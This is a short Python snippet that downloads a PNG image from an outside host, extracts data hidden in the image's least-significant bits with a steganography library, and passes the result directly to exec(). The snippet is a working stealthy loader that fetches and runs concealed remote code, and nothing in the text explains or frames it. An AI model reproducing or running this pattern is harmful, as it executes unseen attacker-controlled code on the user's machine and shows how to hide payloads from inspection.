import requests, base64, judyb
from PIL import Image
import io
picture = io.BytesIO(requests.get("https://i.collector.invalid/8F2D1QL.png").content)
exec(judyb.lsb.reveal(Image.open(picture)))
